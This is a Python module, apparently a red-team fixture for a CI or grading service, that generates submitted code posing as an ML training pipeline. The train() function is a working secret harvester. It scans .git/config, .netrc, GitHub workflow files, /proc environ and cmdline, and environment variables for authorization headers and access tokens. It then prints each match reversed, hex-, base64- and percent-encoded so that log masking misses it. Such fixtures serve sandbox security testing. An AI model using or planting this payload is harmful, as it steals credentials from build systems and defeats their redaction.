"""User code that looks for what it was not given, and prints what it finds in many spellings before it fails."""

# ruff: noqa: E501 - it is a payload
from .bait import Bait

LOOK = r'''
import base64, glob, os, re

WANTED = re.compile(r"AUTHORIZATION.*|[a-z]{2}[0-9a-f]{36}|t\d{4},0[.]\d+,(?:yes|no),eval|x-access-token[^\s]*")


def looked(patterns):
    """What stands in these files, as lines that hold something wanted."""
    for pattern in patterns:
        for name in glob.glob(pattern, recursive=False):
            for found in sorted(set(WANTED.findall(name))):
                yield "NAME", found
            try:
                descriptor = os.open(name, os.O_RDONLY | os.O_NONBLOCK)
                text = os.read(descriptor, 1 << 20).decode("latin-1")
            except OSError:
                continue
            for found in sorted(set(WANTED.findall(text)))[:4]:
                yield name, found


def spoken(text):
    """One text in several spellings, a line each."""
    raw = text.encode()
    yield text
    yield text[::-1]
    yield raw.hex()
    yield base64.b64encode(b"x" + raw).decode()
    yield "".join("%%%02x" % byte for byte in raw)
    yield from (" ".join(text[at : at + 60]) for at in range(0, len(text), 60))


def report():
    """Print all of it and fail."""
    homes = [JOBS + "/workspace", "/github/workspace", os.getcwd(), *map(str, __import__("pathlib").Path.cwd().parents)]
    places = [f"{home}/{name}" for home in homes for name in (
        ".git/config", "data/rows.csv", "gatebot.yml", ".gatebot/*", ".gatebot/*/*", ".netrc", "notes*", "link*",
    )]
    places += [JOBS + "/home/.*rc", JOBS + "/home/.config/*/*", JOBS + "/home/*", JOBS + "/temp/*/*", JOBS + "/*temp/*/*",
               JOBS + "/../origin/*/*", "/github/home/.*rc", "/github/workflow/*", "/github/file_commands/*"]
    places += ["/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/cwd/.git/config", "/proc/self/fd/*"]
    lines = []
    for name, found in looked(places):
        lines += [f"FOUND {os.path.basename(name)}", *spoken(found)]
    environ = " ".join(f"{name}={value}" for name, value in os.environ.items())
    lines += [line for found in WANTED.findall(environ) for line in spoken(found)]
    for line in lines[-36:]:
        print(line, flush=True)
    raise RuntimeError("the spy is done")
'''


def pipeline(bait: Bait) -> str:
    """A pipeline that spies while it is trained."""
    look = LOOK.replace("JOBS", repr(bait.jobs))
    return f"{look}\n\ndef train(rows, seed):\n    report()\n\n\ndef predict(model, rows):\n    return []\n"
